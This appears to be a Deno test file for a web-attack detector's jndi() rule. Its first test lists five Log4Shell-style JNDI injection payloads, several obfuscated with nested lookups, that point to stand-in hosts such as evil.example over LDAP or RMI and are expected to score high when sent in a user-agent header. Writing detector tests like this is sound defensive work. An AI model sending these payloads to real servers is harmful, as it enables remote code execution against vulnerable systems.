import assert from "node:assert/strict";
import { jndi } from "../../engine/jndi.ts";
import { engineInput } from "../_helpers/engine_input.ts";

Deno.test("jndi() catches lookups behind nested obfuscation", () => {
  for (
    const p of [
      "${jndi:ldap://evil.example/a}",
      "${${lower:j}ndi:ldap://evil/a}",
      "${${::-j}${::-n}${::-d}${::-i}:rmi://evil/a}",
      "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil/a}",
      "${j${loWer:Nd}i${uPper::}://evil/a}",
    ]
  ) {
    assert.ok(
      (jndi(engineInput(p, { source: "header", name: "user-agent" }))?.score ?? 0) >= 90,
      p,
    );
  }
});

Deno.test("jndi() passes ordinary template text", () => {
  assert.equal(jndi(engineInput("Price: ${amount} USD")), undefined);
  assert.ok((jndi(engineInput("${env:HOME}"))?.score ?? 0) < 70);
});
